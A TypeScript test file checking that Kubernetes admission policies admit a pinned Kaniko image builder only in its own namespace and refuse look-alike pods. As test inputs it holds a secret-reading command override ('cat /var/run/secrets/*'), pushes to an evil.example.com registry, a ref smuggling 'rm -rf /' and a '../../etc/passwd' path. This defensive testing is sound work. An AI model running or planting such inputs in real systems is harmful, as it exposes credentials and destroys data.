/**
 * Issue 14 item 2 (a commit builds its own training image in the cluster): the in-cluster
 * builders as their projects document them for Kubernetes, judged by the platform's admission
 * policies (real CEL) in the pipeline namespace of a production stack. Both are refused, which is
 * why the builds run in their own namespace under their own policy:
 * - rootless BuildKit needs seccomp and AppArmor `Unconfined` (user namespaces, mounts);
 * - Kaniko runs as root and needs capabilities to unpack and chown the base image.
 * Admitting either is a decision to relax the restricted profile for one pinned builder image,
 * one service account and one namespace; this test fails the day that decision is made silently.
 *
 * The decision (docs/workflows.md, "Building the pushed commit"): Kaniko, in the `ml-builds`
 * namespace at `baseline`, admitted there by `mlops-image-builds` only in the exact shape
 * `builderJob()` makes. The second part of this file evaluates that policy (real CEL) on the
 * builder's pod and on look-alikes, and validates the Job and the policy against upstream schemas.
 */
import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { admissionPolicies } from "../../../components/k8s/admission-rules";
import { BUILD_LAUNCHER } from "../../../components/k8s/image-build-control";
import {
  BUILD_NAMESPACE,
  BUILDER_CAPABILITIES_WITHIN_BASELINE,
  builderImageRef,
  builderJob,
  builderRegistrySecret,
  builderServiceAccount,
  buildRequestProblems,
  builtImageRef,
  imageBuildAdmissionManifests,
  imageBuildPolicy,
} from "../../../components/k8s/image-builds";
import { evaluatePolicies, evaluatePolicy } from "../../../workflows/admission-check";
import { shippedPlan } from "../../support/shipped-plan";
import { schemaError } from "./schemas";

type Obj = Record<string, unknown>;
const REGISTRY = "123456789012.dkr.ecr.me-central-1.amazonaws.com";
const DIGEST = `@sha256:${"b".repeat(64)}`;
const POLICIES = admissionPolicies({
  registryHosts: [REGISTRY],
  platformImages: [],
  requireDigest: true,
  pipelineServiceAccounts: ["pipeline-data", "pipeline-train", "pipeline-register", "pipeline-deploy"],
  platformOnlyServiceAccounts: ["pipeline-register", "pipeline-deploy"],
  serving: { namespace: "serving", serviceAccounts: ["model-server"] },
});
const res = { requests: { cpu: "1", memory: "2Gi" }, limits: { cpu: "2", memory: "4Gi" } };

function failures(pod: Obj): string[] {
  const v = evaluatePolicies(POLICIES, { object: pod, namespace: "ml-pipelines", team: false });
  expect(v.flatMap((x) => x.errors)).toEqual([]);
  return v.flatMap((x) => x.failures);
}

/** BuildKit's rootless Kubernetes example (examples/kubernetes/job.rootless.yaml), image mirrored and pinned. */
const buildkitRootless: Obj = {
  apiVersion: "v1",
  kind: "Pod",
  metadata: { name: "build" },
  spec: {
    serviceAccountName: "pipeline-train",
    containers: [
      {
        name: "buildkit",
        image: `${REGISTRY}/mirror/moby/buildkit${DIGEST}`,
        env: [{ name: "BUILDKITD_FLAGS", value: "--oci-worker-no-process-sandbox" }],
        command: ["buildctl-daemonless.sh"],
        securityContext: {
          runAsUser: 1000,
          runAsGroup: 1000,
          runAsNonRoot: true,
          seccompProfile: { type: "Unconfined" },
          appArmorProfile: { type: "Unconfined" },
        },
        resources: res,
      },
    ],
  },
};

/** Kaniko's documented pod: the executor runs as root. */
const kaniko: Obj = {
  apiVersion: "v1",
  kind: "Pod",
  metadata: { name: "build" },
  spec: {
    serviceAccountName: "pipeline-train",
    containers: [
      {
        name: "kaniko",
        image: `${REGISTRY}/mirror/kaniko-executor${DIGEST}`,
        args: ["--context=git://example/repo.git#refs/heads/main", `--destination=${REGISTRY}/fraud-train:abc`],
        securityContext: { runAsUser: 0 },
        resources: res,
      },
    ],
  },
};

describe("in-cluster image builders under the platform's admission", () => {
  it("refuses rootless BuildKit as documented (seccomp and AppArmor Unconfined)", () => {
    const f = failures(buildkitRootless);
    expect(f.some((m) => /seccompProfile\.type must be RuntimeDefault or Localhost/.test(m))).toBe(true);
    expect(f.some((m) => /AppArmor may not be Unconfined/.test(m))).toBe(true);
  });

  it("refuses Kaniko as documented (root, no restricted context)", () => {
    const f = failures(kaniko);
    expect(f.some((m) => /runAsUser must not be 0/.test(m))).toBe(true);
    expect(f.some((m) => /drop ALL capabilities/.test(m))).toBe(true);
  });
});

describe("the build namespace's exception: Kaniko at baseline, one pinned image, one account", () => {
  const BUILDER = builderImageRef(`${REGISTRY}/mirror/kaniko-project/executor`);
  const SCOPE = {
    registryHost: REGISTRY,
    builds: [
      { team: "fraud", model: "fraud-scorer", cloneUrl: "https://git.example.ae/fraud/fraud-scorer.git" },
      { team: "risk", model: "churn", cloneUrl: "https://git.example.ae/risk/churn.git" },
    ],
  };
  const POLICY = imageBuildPolicy(BUILDER, SCOPE);
  const request = {
    cloneUrl: "https://git.example.ae/fraud/fraud-scorer.git",
    commit: "0123456789abcdef0123456789abcdef01234567",
    ref: "refs/heads/main",
    registryHost: REGISTRY,
    team: "fraud",
    model: "fraud-scorer",
    builderImage: BUILDER,
  };
  const job = builderJob(request, "build-fraud-scorer-0123456");
  /** The pod the Job controller creates from the template. */
  const pod = (): Obj => {
    const t = structuredClone((job.spec as Obj).template as Obj);
    return { apiVersion: "v1", kind: "Pod", metadata: { ...(t.metadata as Obj), name: "b" }, spec: t.spec };
  };
  const verdict = (p: Obj) => {
    const v = evaluatePolicy(POLICY, { object: p, namespace: BUILD_NAMESPACE });
    expect(v.errors).toEqual([]);
    return v.failures;
  };
  const container = (p: Obj) => ((p.spec as Obj).containers as Obj[])[0] as Obj;

  it("admits the builder's pod, and the restricted policies would still refuse it elsewhere", () => {
    expect(verdict(pod())).toEqual([]);
    expect(failures(pod()).length).toBeGreaterThan(0);
  });

  it("builds the pushed commit and pushes <registry>/<team>/<model>:<commit>", () => {
    const args = container(pod()).args as string[];
    expect(args).toContain(
      "--context=git://git.example.ae/fraud/fraud-scorer.git#refs/heads/main#0123456789abcdef0123456789abcdef01234567",
    );
    expect(args).toContain(`--destination=${builtImageRef(REGISTRY, "fraud", "fraud-scorer", request.commit)}`);
    expect(args).toContain("--digest-file=/dev/termination-log");
    expect(builtImageRef(REGISTRY, "fraud", "fraud-scorer", request.commit)).toBe(`${REGISTRY}/fraud/fraud-scorer:${request.commit}`);
    expect((job.metadata as Obj).namespace).toBe(BUILD_NAMESPACE);
    expect((pod().spec as Obj).serviceAccountName).toBe(builderServiceAccount("fraud"));
    expect(BUILDER_CAPABILITIES_WITHIN_BASELINE).toBe(true);
  });

  const lookAlikes: [string, (p: Obj) => void, RegExp][] = [
    [
      "another image",
      (p) => (container(p).image = `${REGISTRY}/mirror/kaniko-project/executor@sha256:${"c".repeat(64)}`),
      /only the builder image/,
    ],
    ["the builder by tag", (p) => (container(p).image = `${REGISTRY}/mirror/kaniko-project/executor:v1.23.2`), /only the builder image/],
    [
      "another service account",
      (p) => ((p.spec as Obj).serviceAccountName = "pipeline-train"),
      /image-builder-<team> service account only/,
    ],
    ["no service account (default)", (p) => delete (p.spec as Obj).serviceAccountName, /image-builder-<team> service account only/],
    [
      "another team's builder account",
      (p) => ((p.spec as Obj).serviceAccountName = builderServiceAccount("risk")),
      /its destination team's image-builder-<team> account/,
    ],
    ["a privileged builder", (p) => ((container(p).securityContext as Obj).privileged = true), /privileged containers/],
    ["privilege escalation", (p) => ((container(p).securityContext as Obj).allowPrivilegeEscalation = true), /allowPrivilegeEscalation/],
    ["SYS_ADMIN added", (p) => (((container(p).securityContext as Obj).capabilities as Obj).add = ["SYS_ADMIN"]), /adds at most/],
    ["capabilities not dropped", (p) => delete ((container(p).securityContext as Obj).capabilities as Obj).drop, /drops ALL/],
    [
      "seccomp Unconfined",
      (p) => ((container(p).securityContext as Obj).seccompProfile = { type: "Unconfined" }),
      /RuntimeDefault seccomp/,
    ],
    ["AppArmor Unconfined", (p) => ((container(p).securityContext as Obj).appArmorProfile = { type: "Unconfined" }), /AppArmor/],
    ["a hostPath volume", (p) => ((p.spec as Obj).volumes = [{ name: "docker", hostPath: { path: "/var/run" } }]), /no hostPath/],
    ["host network", (p) => ((p.spec as Obj).hostNetwork = true), /host namespaces/],
    ["a sidecar", (p) => ((p.spec as Obj).containers as Obj[]).push({ ...container(p), name: "side" }), /exactly one container/],
    ["an init container", (p) => ((p.spec as Obj).initContainers = [{ ...container(p), name: "init" }]), /exactly one container/],
    ["a host port", (p) => (container(p).ports = [{ containerPort: 80, hostPort: 80 }]), /host ports/],
    // Review finding: the builder's arguments and secrets are pinned too.
    ...(
      [
        ["a push to another repository of the registry", `--destination=${REGISTRY}/mirror/python:${request.commit}`],
        ["a push to another registry", `--destination=evil.example.com/fraud/fraud-scorer:${request.commit}`],
        ["a push of one model into another team's repository", `--destination=${REGISTRY}/risk/fraud-scorer:${request.commit}`],
        ["a push by a moving tag", `--destination=${REGISTRY}/fraud/fraud-scorer:latest`],
        ["a context from another repository", `--context=git://evil.example.com/fraud/fraud-scorer.git#refs/heads/main#${request.commit}`],
        ["a context at a branch, not a commit", "--context=git://git.example.ae/fraud/fraud-scorer.git#refs/heads/main"],
        [
          "a context of another declared model's repository",
          `--context=git://git.example.ae/risk/churn.git#refs/heads/main#${request.commit}`,
        ],
        ["a local context", "--context=dir:///workspace"],
      ] as const
    ).map(([what, arg]): [string, (p: Obj) => void, RegExp] => [
      what,
      (p) => {
        const flag = arg.slice(0, arg.indexOf("=") + 1);
        container(p).args = (container(p).args as string[]).map((a) => (a.startsWith(flag) ? arg : a));
      },
      /declared model/,
    ]),
    [
      "a second destination",
      (p) => (container(p).args as string[]).push(`--destination=${REGISTRY}/risk/churn:${request.commit}`),
      /declared model/,
    ],
    ["an unlisted flag (--insecure)", (p) => (container(p).args as string[]).push("--insecure"), /only the flags/],
    ["a command override", (p) => (container(p).command = ["/busybox/sh", "-c", "cat /var/run/secrets/*"]), /no command override/],
    [
      "an unnamed secret volume",
      (p) => ((p.spec as Obj).volumes = [{ name: "s", secret: { secretName: "mlflow-admin" } }]),
      /only the secrets/,
    ],
    [
      "an unnamed secret in a projected volume",
      (p) => ((p.spec as Obj).volumes = [{ name: "s", projected: { sources: [{ secret: { name: "argo-token" } }] } }]),
      /only the secrets/,
    ],
    [
      "an unnamed secret in env",
      (p) => (container(p).env = [{ name: "T", valueFrom: { secretKeyRef: { name: "mlflow-admin", key: "token" } } }]),
      /only the secrets/,
    ],
    ["an unnamed secret in envFrom", (p) => (container(p).envFrom = [{ secretRef: { name: "mlflow-admin" } }]), /only the secrets/],
  ];
  it("admits every declared model's build under its own team's account", () => {
    const churn = builderJob({ ...request, team: "risk", model: "churn", cloneUrl: "https://git.example.ae/risk/churn.git" }, "b");
    const t = (churn.spec as Obj).template as Obj;
    expect((t.spec as Obj).serviceAccountName).toBe(builderServiceAccount("risk"));
    expect(verdict({ apiVersion: "v1", kind: "Pod", metadata: { name: "b" }, spec: t.spec })).toEqual([]);
  });

  it.each(lookAlikes)("refuses %s", (_what, mutate, message) => {
    const p = pod();
    mutate(p);
    const f = verdict(p);
    expect(
      f.some((m) => message.test(m)),
      f.join("; "),
    ).toBe(true);
  });

  it("binds the exception to the build namespace only, denying in production and warning in development", () => {
    const dev = imageBuildAdmissionManifests(BUILDER, SCOPE, "development");
    expect(((dev.bindings[0] as Obj).spec as Obj).validationActions).toEqual(["Warn", "Audit"]);
    const m = imageBuildAdmissionManifests(BUILDER, SCOPE, "production");
    expect(m.bindings).toHaveLength(1);
    const spec = (m.bindings[0] as Obj).spec as Obj;
    expect(spec.validationActions).toContain("Deny");
    expect(JSON.stringify(spec.matchResources)).toContain(`"values":["${BUILD_NAMESPACE}"]`);
  });

  it("validates the Job and the policy against the upstream schemas", async () => {
    expect(await schemaError(job)).toBeUndefined();
    const m = imageBuildAdmissionManifests(BUILDER, SCOPE, "production");
    for (const o of [...m.policies, ...m.bindings]) expect(await schemaError(o as Obj)).toBeUndefined();
  });

  describe("with the cloud's push credentials, one per team", () => {
    const AZURE_SCOPE = { ...SCOPE, registrySecrets: true };
    const azurePod = (r: Partial<typeof request> = {}): Obj => {
      const t = structuredClone((builderJob({ ...request, ...r, registrySecret: true }, "b").spec as Obj).template as Obj);
      return { apiVersion: "v1", kind: "Pod", metadata: { name: "b" }, spec: t.spec };
    };
    const risk = { team: "risk", model: "churn", cloneUrl: "https://git.example.ae/risk/churn.git" };
    const azureVerdict = (p: Obj) => {
      const v = evaluatePolicy(imageBuildPolicy(BUILDER, AZURE_SCOPE), { object: p, namespace: BUILD_NAMESPACE });
      expect(v.errors).toEqual([]);
      return v.failures;
    };

    it("admits each team's Azure builder mounting its own team's registry token as Kaniko's config.json", async () => {
      expect(await schemaError(builderJob({ ...request, registrySecret: true }, "b"))).toBeUndefined();
      const p = azurePod();
      expect((p.spec as Obj).serviceAccountName).toBe("image-builder-fraud");
      expect((p.spec as Obj).volumes).toEqual([
        {
          name: "registry-auth",
          secret: { secretName: "image-builder-registry-fraud", items: [{ key: ".dockerconfigjson", path: "config.json" }] },
        },
      ]);
      expect(container(p).volumeMounts).toEqual([{ name: "registry-auth", mountPath: "/kaniko/.docker", readOnly: true }]);
      expect(azureVerdict(p)).toEqual([]);
      expect(azureVerdict(azurePod(risk))).toEqual([]);
      // Where no team has a secret (AWS), the same pod is refused.
      expect(verdict(p).some((m) => /only the secrets/.test(m))).toBe(true);
    });

    // Kaniko's RUN steps read what the pod holds: team A's build may hold only A's credential.
    const teamMessage = /its destination team's image-builder-<team> account and holds only that team's registry secret/;
    it.each([
      [
        "fraud's build with risk's secret",
        (p: Obj) => {
          (((p.spec as Obj).volumes as Obj[])[0]?.secret as Obj).secretName = builderRegistrySecret("risk");
        },
      ],
      [
        "fraud's build with both teams' secrets",
        (p: Obj) => {
          ((p.spec as Obj).volumes as Obj[]).push({ name: "x", secret: { secretName: builderRegistrySecret("risk") } });
        },
      ],
      [
        "fraud's build with risk's secret in a projected volume",
        (p: Obj) => {
          ((p.spec as Obj).volumes as Obj[]).push({
            name: "y",
            projected: { sources: [{ secret: { name: builderRegistrySecret("risk") } }] },
          });
        },
      ],
      [
        "fraud's build with risk's secret in env",
        (p: Obj) => {
          container(p).env = [
            { name: "T", valueFrom: { secretKeyRef: { name: builderRegistrySecret("risk"), key: ".dockerconfigjson" } } },
          ];
        },
      ],
      [
        "fraud's build as risk's account",
        (p: Obj) => {
          (p.spec as Obj).serviceAccountName = builderServiceAccount("risk");
        },
      ],
      [
        "a build to risk's repository as fraud's account with fraud's secret",
        (p: Obj) => {
          container(p).args = (container(azurePod(risk)).args as string[]).slice();
        },
      ],
    ])("refuses %s", (_what, mutate) => {
      const p = azurePod();
      mutate(p);
      const f = azureVerdict(p);
      expect(
        f.some((m) => teamMessage.test(m)),
        f.join("; "),
      ).toBe(true);
    });

    it("on AWS refuses a build to another team's repository under the builder's own account (its role cannot push there)", () => {
      const p = pod();
      const other = structuredClone((builderJob({ ...request, ...risk }, "b").spec as Obj).template as Obj);
      container(p).args = (((other.spec as Obj).containers as Obj[])[0] as Obj).args;
      expect((p.spec as Obj).serviceAccountName).toBe("image-builder-fraud");
      expect(verdict(p).some((m) => teamMessage.test(m))).toBe(true);
    });

    it("admits the web-identity token the AWS and Azure webhooks project (no secret)", () => {
      const p = pod();
      (p.spec as Obj).volumes = [
        {
          name: "aws-iam-token",
          projected: { sources: [{ serviceAccountToken: { audience: "sts.amazonaws.com", expirationSeconds: 86400, path: "token" } }] },
        },
      ];
      container(p).env = [{ name: "AWS_ROLE_ARN", value: "arn:aws:iam::123456789012:role/image-builder" }];
      expect(verdict(p)).toEqual([]);
    });

    it.each([
      [
        "a second secret beside the token",
        (p: Obj) => ((p.spec as Obj).volumes as Obj[]).push({ name: "x", secret: { secretName: "mlflow-admin" } }),
      ],
      [
        "another secret under the token's mount",
        (p: Obj) => ((((p.spec as Obj).volumes as Obj[])[0] as Obj).secret = { secretName: "argo-server-sso" }),
      ],
      [
        "the token's secret name in a projected volume beside another",
        (p: Obj) =>
          ((p.spec as Obj).volumes as Obj[]).push({
            name: "y",
            projected: { sources: [{ secret: { name: builderRegistrySecret("fraud") } }, { secret: { name: "git-webhook" } }] },
          }),
      ],
    ])("refuses %s", (_what, mutate) => {
      const p = azurePod();
      mutate(p);
      expect(azureVerdict(p).some((m) => /only the secrets/.test(m))).toBe(true);
    });
  });

  it.each([
    ["cloneUrl", { cloneUrl: "git@git.example.ae:fraud/x.git" }],
    ["commit", { commit: "main" }],
    ["ref", { ref: "main; rm -rf /" }],
    ["team", { team: "Fraud" }],
    ["dockerfile", { dockerfile: "../../etc/passwd" }],
  ])("refuses a build request with a bad %s, naming it", (key, change) => {
    expect(buildRequestProblems({ ...request, ...change }).join("\n")).toMatch(new RegExp(`^${key}:`, "m"));
    expect(() => builderJob({ ...request, ...change }, "b")).toThrow(new RegExp(key));
  });
});

/** The teams owning the models a shipped stack builds (`models[].training.repository`), from its stack file. */
const builtTeams = (stack: string): string[] =>
  (
    (parse(readFileSync(`Pulumi.${stack}.yaml`, "utf8")) as { config: Record<string, unknown> }).config["mlops-platform:models"] as {
      team: string;
      training: { repository?: string };
    }[]
  )
    .filter((m) => m.training.repository !== undefined)
    .map((m) => m.team);

describe.each(["dev", "uae-prod", "dev-azure", "uae-prod-azure"])("the build namespace in the shipped stack %s", (stack) => {
  const objects = () => shippedPlan(stack).manifests.map((m) => m.object as Obj);
  const named = (kind: string, name: string, namespace?: string) =>
    objects().filter(
      (o) =>
        o.kind === kind && (o.metadata as Obj).name === name && (namespace === undefined || (o.metadata as Obj).namespace === namespace),
    );

  it("exists at baseline with its reason, reaching only DNS, the cloud APIs and the models' git host", async () => {
    const [ns] = named("Namespace", BUILD_NAMESPACE);
    const m = (ns as Obj).metadata as { labels: Record<string, string>; annotations: Record<string, string> };
    expect(m.labels["pod-security.kubernetes.io/enforce"]).toBe("baseline");
    expect(m.annotations["mlops.platform/pod-security-reason"]).toMatch(/Kaniko/);
    const policies = objects().filter((o) => o.kind === "NetworkPolicy" && (o.metadata as Obj).namespace === BUILD_NAMESPACE);
    expect(policies.length).toBeGreaterThan(0);
    const text = JSON.stringify(policies);
    expect(text).not.toMatch(/5432|6379|6443/);
    for (const p of policies) expect(await schemaError(p)).toBeUndefined();
    expect(named("ResourceQuota", "baseline", BUILD_NAMESPACE)).toHaveLength(1);
  });

  it("installs the builder policy (Deny in production, Warn in development) and lets only the platform's build step create Jobs there", async () => {
    const [policy] = named("ValidatingAdmissionPolicy", "mlops-image-builds");
    const [binding] = named("ValidatingAdmissionPolicyBinding", "mlops-image-builds");
    expect(policy).toBeDefined();
    expect(((binding as Obj).spec as Obj).validationActions).toEqual(stack.startsWith("uae-prod") ? ["Deny", "Audit"] : ["Warn", "Audit"]);
    expect(JSON.stringify((binding as Obj).spec)).toContain(`"values":["${BUILD_NAMESPACE}"]`);
    expect(JSON.stringify(policy)).toContain("fraud-scorer");
    const bindings = objects().filter(
      (o) => (o.kind === "RoleBinding" && (o.metadata as Obj).namespace === BUILD_NAMESPACE) || o.kind === "ClusterRoleBinding",
    );
    const inBuilds = bindings.filter((b) => (b.metadata as Obj).namespace === BUILD_NAMESPACE);
    expect(inBuilds.flatMap((b) => b.subjects as Obj[])).toEqual([
      { kind: "ServiceAccount", name: BUILD_LAUNCHER.serviceAccount, namespace: BUILD_LAUNCHER.namespace },
    ]);
    // One builder account per team that owns built models, and no shared one.
    const accounts = objects().filter((o) => o.kind === "ServiceAccount" && (o.metadata as Obj).namespace === BUILD_NAMESPACE);
    expect(accounts.map((o) => (o.metadata as Obj).name).sort()).toEqual([...new Set(builtTeams(stack))].map(builderServiceAccount).sort());
    for (const o of [policy, binding, ...inBuilds]) expect(await schemaError(o as Obj)).toBeUndefined();
  });
});
